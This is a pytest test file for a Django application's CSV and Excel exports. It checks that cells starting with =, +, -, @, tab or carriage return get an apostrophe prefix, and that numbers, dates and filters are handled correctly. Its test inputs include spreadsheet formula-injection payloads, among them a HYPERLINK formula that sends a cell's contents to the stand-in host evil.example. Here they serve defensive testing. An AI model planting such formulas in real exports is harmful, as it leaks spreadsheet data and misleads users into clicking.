"""Exports: cells that would run as formulas in Excel are neutralised; numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from samverkan.core.exports import csv_response, neutralise, write_xlsx
from samverkan.testing.factories import SystemFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+46 584 473 00", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_excel_would_run_is_prefixed_with_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value, expected", [
    ("Procapita", "Procapita"),
    ("e-tjänst = bra", "e-tjänst = bra"),  # only the first character matters
    (-5, -5), (Decimal("-1134354.50"), Decimal("-1134354.50")), (2.5, 2.5), (0, 0),
    (None, ""), (True, "Ja"), (False, "Nej"),
    (datetime.date(2024, 12, 31), datetime.date(2024, 12, 31)),
])
def test_other_values_keep_their_type(value, expected):
    assert neutralise(value) == expected
    assert type(neutralise(value)) is type(expected)


def test_datetimes_lose_their_time_zone_for_excel():
    moment = timezone.now()
    assert neutralise(moment).tzinfo is None


def _csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Swedish Excel opens UTF-8 with BOM without a wizard
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_csv_export_is_semicolon_separated_with_decimal_commas_and_neutralised_cells():
    response = csv_response("export", ["Namn", "=Belopp"], [
        ["=1+1", Decimal("1134354.50")], ["Laxå", -3], ["Hallsberg", None]])
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    assert _csv_rows(response) == [["Namn", "'=Belopp"], ["'=1+1", "1134354,50"],
                                   ["Laxå", "-3"], ["Hallsberg", ""]]


def test_xlsx_export_has_no_formula_cells_and_keeps_numbers():
    texts = [text for text in HOSTILE if "\r" not in text]  # the XML keeps \r as \n
    handle = write_xlsx(["Namn", "Belopp"], [[text, Decimal("12.50")] for text in texts])
    sheet = load_workbook(handle).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == ["'" + text for text in texts]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert all(row[1].value == 12.5 and row[1].data_type == "n" for row in rows)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_list_export_neutralises_what_users_typed(fmt, laxa, reader, client_for):
    SystemFactory(name='=HYPERLINK("http://evil.example","Öppna")', organisation=laxa)
    SystemFactory(name="Procapita", organisation=laxa)
    response = client_for(reader).get(reverse("portfolio:systems") + f"?export={fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        names = [row[0] for row in _csv_rows(response)[1:]]
    else:
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
        assert all(cell.data_type != "f" for cell in cells)
        names = [cell.value for cell in cells]
    assert names == ["'=HYPERLINK(\"http://evil.example\",\"Öppna\")", "Procapita"]


@pytest.mark.django_db
def test_a_list_export_has_every_row_not_only_the_first_page(laxa, reader, client_for):
    SystemFactory.create_batch(60, organisation=laxa)
    response = client_for(reader).get(reverse("portfolio:systems") + "?export=csv")
    assert len(_csv_rows(response)) == 61


@pytest.mark.django_db
def test_a_list_export_follows_the_filter_and_leaves_out_archived_rows(laxa, hallsberg, reader,
                                                                       client_for):
    SystemFactory(name="Laxås", organisation=laxa)
    SystemFactory(name="Hallsbergs", organisation=hallsberg)
    SystemFactory(name="Arkiverat", organisation=hallsberg, archived_at=timezone.now())
    url = reverse("portfolio:systems") + f"?organisation={hallsberg.pk}&export=csv"
    names = [row[0] for row in _csv_rows(client_for(reader).get(url))[1:]]
    assert names == ["Hallsbergs"]


def test_an_xlsx_export_is_ready_to_work_with_in_excel():
    """Widths that fit, the header frozen and an autofilter over every row."""
    import io

    from openpyxl import load_workbook

    from samverkan.core.exports import write_xlsx

    rows = [("Procapita", "Laxå kommun", 1200), ("Ett mycket långt systemnamn " * 2, "", 5)]
    sheet = load_workbook(io.BytesIO(write_xlsx(["Namn", "Ägare", "Användare"], rows).read()))
    sheet = sheet.active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["C"].width >= 8
    assert [c.value for c in sheet[3]] == ["Ett mycket långt systemnamn " * 2, None, 5]
